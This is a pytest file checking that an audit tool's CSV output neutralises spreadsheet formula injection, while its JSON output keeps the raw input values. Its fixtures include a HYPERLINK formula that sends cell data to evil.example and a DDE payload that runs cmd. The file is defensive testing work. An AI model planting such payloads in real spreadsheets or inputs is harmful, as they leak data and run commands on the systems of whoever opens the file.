"""Spreadsheet formulas in input names are written to CSV as text; JSON keeps the raw value."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest

from judge_transfer_audit.core.output_files import FORMULA_STARTS, csv_text, neutralise_cell
from tests.hostile.conftest import fast_args, run_cli
from tests.hostile.study import write_study

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
SYSTEMS = (HYPERLINK, "@SUM(1+1)")
CRITERIA = ("+cmd|' /c calc'!a0", "-2+3")


@pytest.mark.parametrize(
    "cell, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+1", "'+1+1"),
        ("-x", "'-x"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-0.5", "-0.5"),  # a number written as text stays a number
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("plain", "plain"),
        ("a=b", "a=b"),  # only the first character matters
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_neutralise_cell(cell, written):
    assert neutralise_cell(cell) == written


def test_numeric_columns_are_never_touched():
    frame = pd.DataFrame({"x": [-0.5, -1.0, float("nan")], "name": ["-a", "b", None], "=col": [1, 2, 3]})
    rows = list(csv.reader(csv_text(frame).splitlines()))
    assert rows[0] == ["x", "name", "'=col"]
    assert rows[1] == ["-0.5", "'-a", "1"] and rows[3] == ["", "", "3"]


def _formula_cells(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return [
            cell
            for row in csv.reader(handle)
            for cell in row
            if cell.startswith(FORMULA_STARTS) and neutralise_cell(cell) != cell
        ]


def test_every_csv_of_a_run_is_neutralised_and_json_keeps_the_raw_names(tmp_path, capsys):
    files = write_study(tmp_path / "in", systems=SYSTEMS, criteria=CRITERIA)
    out = tmp_path / "out"
    status, _, _ = run_cli(fast_args(files, out), capsys, protect=files.values())
    assert status == 0
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} >= {"cells.csv", "checks.csv", "agreement.csv", "judge_pairs.csv"}
    for path in written:
        assert _formula_cells(path) == [], path.name
    assert "'" + HYPERLINK in (out / "cells.csv").read_text(encoding="utf-8").replace('""', '"')
    result = json.loads((out / "result.json").read_text(encoding="utf-8"))
    assert {c["focal"] for c in result["cells"]} == {HYPERLINK}
    assert {c["criterion"] for c in result["cells"]} >= set(CRITERIA)


def test_features_and_reliability_tables_are_neutralised(tmp_path, capsys):
    stories = tmp_path / "stories.csv"
    pd.DataFrame(
        {
            "pair_id": ["=p1", "@p2"],
            "system": ["-a", "+b"],
            "text": ["One short story here. It ends.", "Another story. Also short."],
        }
    ).to_csv(stories, index=False)
    status, _, _ = run_cli(
        ["features", str(stories), "-o", str(tmp_path / "features.csv"), "-q", "--detectors", "length"],
        capsys,
        protect=[stories],
    )
    assert status == 0 and _formula_cells(tmp_path / "features.csv") == []
    ratings = tmp_path / "ratings.csv"
    rows = [
        {"item_id": f"=i{i}", "reader_id": f"@r{r}", "criterion": "+q", "rating": (i + r) % 5 + 1}
        for i in range(6)
        for r in range(3)
    ]
    pd.DataFrame(rows).to_csv(ratings, index=False)
    status, _, _ = run_cli(
        ["reliability", str(ratings), "-o", str(tmp_path / "rel"), "-q", "--n-boot", "100", "--seed", "1"],
        capsys,
        protect=[ratings],
    )
    assert status == 0
    tables = sorted((tmp_path / "rel").glob("*.csv"))
    assert tables and all(_formula_cells(p) == [] for p in tables)
